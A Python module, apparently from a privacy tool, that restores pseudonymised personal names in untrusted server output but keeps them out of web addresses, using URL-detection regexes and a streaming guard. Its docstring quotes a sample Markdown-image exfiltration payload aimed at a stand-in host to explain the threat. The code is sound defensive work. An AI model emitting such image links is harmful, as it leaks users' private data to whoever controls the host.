"""Keep restored values out of web addresses that a server wrote.

The server is not trusted. It could answer `![](https://its.own.host/?q=PERSON_[...])`: a client
that shows images would fetch the address, and with the name restored in it the server would read
in its log what it could not decrypt.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from privacy.tokens import LOOSE, StreamReplacer

_ADDRESS = re.compile(r"https?:|[/\\]{2}|&(?:#|sol|bsol|colon)", re.IGNORECASE)
"""What makes a browser leave this page: a scheme, two slashes of either kind, or HTML entities
that spell one of them."""
_SPACES = " \t\n\r\f"
"""Only these end an address in Markdown (CommonMark 0.31, §6.3)."""

_QUOTE = re.compile(r'(?<!\\)"')

Replace = Callable[[re.Match[str]], str]


def in_address(before: str) -> bool:
    """Return whether text that continues `before` would belong to a web address in it.

    That is so within a word that holds the beginning of one, and within an HTML tag or a
    Markdown `<...>` that does, whose spaces do not end it.
    """
    return bool(_ADDRESS.search(before, _context(before, len(before))))


def _context(text: str, end: int) -> int:
    """Return where the word that ends at `end` begins, or the tag that is still open there."""
    word = 1 + max(text.rfind(space, 0, end) for space in _SPACES)
    tag = text.rfind("<", 0, end)
    return min(word, tag) if tag >= 0 and text.find(">", tag, end) < 0 else word


def replace_outside_addresses(text: str, replace: Replace, *, in_json: bool = False) -> str:
    """Replace every token of a text, but leave those in web addresses as they are.

    With `in_json` the text is JSON source, in which a quotation mark ends an address.
    """
    stream = GuardedStream(replace, in_json=in_json)
    return stream.feed(text) + stream.flush()


class GuardedStream:
    """The same for text that arrives in pieces, however it is cut."""

    def __init__(self, replace: Replace, *, in_json: bool = False) -> None:
        self._before = ""
        self._in_json = in_json
        self._replace = replace
        self._guarded = StreamReplacer(LOOSE, self._value)
        # Gives out just what the other one takes in: the text before the current piece.
        self._plain = StreamReplacer(LOOSE, lambda match: match.group())

    def feed(self, piece: str) -> str:
        """Take the next piece; return what is certain by now."""
        restored = self._guarded.feed(piece)
        self._remember(self._plain.feed(piece))
        return restored

    def flush(self) -> str:
        """Return what was held back: the text has ended."""
        self._remember(self._plain.flush())
        return self._guarded.flush()

    def _remember(self, text: str) -> None:
        """Keep of the text so far only the word or tag that is still open."""
        self._before += text
        self._before = self._before[_context(self._before, len(self._before)) :]

    def _value(self, match: re.Match[str]) -> str:
        text, end = match.string, match.start()
        start = _context(text, end)
        if start == 0 or ("<" in self._before and text.find(">", 0, end) < 0):
            before = self._before + text[:end]
        else:
            before = text[start:end]
        if self._in_json:
            before = _QUOTE.split(before)[-1]
        return match.group() if in_address(before) else self._replace(match)
